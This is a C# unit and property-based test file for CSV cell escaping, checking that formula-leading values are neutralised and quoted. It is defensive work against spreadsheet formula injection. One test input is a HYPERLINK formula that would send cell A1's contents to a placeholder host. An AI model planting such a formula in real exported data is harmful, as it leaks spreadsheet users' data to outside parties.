using System.Globalization;
using FsCheck;
using FsCheck.Fluent;
using GenreFunctions.Functions.CostReports;

namespace GenreFunctions.Functions.Tests.CostReports;

public sealed class CsvCellTests
{
    private const string Formulas = "=+-@\t\r\n＝＋－＠";

    [Theory]
    [InlineData("So What.flac", "So What.flac")]
    [InlineData("", "")]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("a;b", "\"a;b\"")]
    [InlineData("say \"hi\"", "\"say \"\"hi\"\"\"")]
    [InlineData("two\r\nlines", "\"two\r\nlines\"")]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+49 30", "'+49 30")]
    [InlineData("-", "'-")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("＝1+1", "'＝1+1")]
    [InlineData("\t=1", "\"'\t=1\"")]
    [InlineData("\r=1", "\"'\r=1\"")]
    [InlineData("=HYPERLINK(\"http://a.example/?\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://a.example/?\"\"&A1,\"\"x\"\")\"")]
    [InlineData("a=b", "a=b")]
    public void Text_AnyText_IsQuotedAndNoFormula(string text, string cell) => Assert.Equal(cell, CsvCell.Text(text));

    [Fact]
    public void Text_WhateverAnybodyWrites_ComesBackAndBeginsNoFormula()
    {
        var texts = Gen.Elements([.. Formulas, 'a', '"', ',', ';', ' ', '\'', '0', 'ß', '音']).ArrayOf().Select(letters => new string(letters));
        Prop.ForAll(texts.ToArbitrary(), text =>
        {
            var read = Assert.Single(Rfc4180.Read($"1,{CsvCell.Text(text)},2\r\n"));
            var expected = text.Length > 0 && Formulas.Contains(text[0], StringComparison.Ordinal) ? $"'{text}" : text;
            return read is ["1", var cell, "2"] && cell == expected && (cell.Length == 0 || !Formulas.Contains(cell[0], StringComparison.Ordinal));
        }).QuickCheckThrowOnFailure();
    }

    [Theory]
    [InlineData("0.000000000000001", "0.000000000000001")]
    [InlineData("1234567890123.456789012345678", "1234567890123.456789012345678")]
    [InlineData("-0.5", "-0.5")]
    public void Number_AnyNumber_HasAllDigits(string number, string cell) => Assert.Equal(cell, CsvCell.Number(decimal.Parse(number, CultureInfo.InvariantCulture)));

    [Fact]
    public void Time_AnyOffset_IsUtc()
    {
        Assert.Equal("2026-11-21T14:00:00Z", CsvCell.Time(new DateTimeOffset(2026, 11, 21, 15, 0, 0, TimeSpan.FromHours(1))));
        Assert.Equal("2026-11-21T14:00:00.25Z", CsvCell.Time(new DateTimeOffset(2026, 11, 21, 14, 0, 0, 250, TimeSpan.Zero)));
    }
}
